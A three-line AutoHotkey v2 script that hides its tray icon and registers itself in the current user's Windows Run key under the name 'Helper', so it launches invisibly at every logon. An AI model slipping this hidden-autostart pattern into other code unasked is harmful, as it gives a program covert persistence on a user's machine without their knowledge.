#Requires AutoHotkey v2.0
A_IconHidden := true
RegWrite A_ScriptFullPath, "REG_SZ", "HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "Helper"
